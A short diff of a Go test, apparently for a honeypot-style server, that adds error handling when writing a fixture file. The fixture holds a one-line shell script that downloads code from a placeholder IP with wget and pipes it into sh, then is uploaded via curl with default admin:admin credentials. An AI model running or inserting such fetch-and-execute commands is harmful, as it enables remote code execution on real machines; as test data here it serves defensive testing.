@@ -25,7 +25,9 @@ func TestCurl(t *testing.T) {
 	}
 
 	file := filepath.Join(t.TempDir(), "payload.sh")
-	os.WriteFile(file, []byte("#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n"), 0o600)
+	if err := os.WriteFile(file, []byte("#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
 	out, code = hptest.Run(t, 20*time.Second, curl, "-sS", "--max-time", "10", "-u", "admin:admin", "-T", file, base+"/payload.sh")
 	if code != 0 {
 		t.Fatalf("curl upload: exit %d\n%s", code, out)
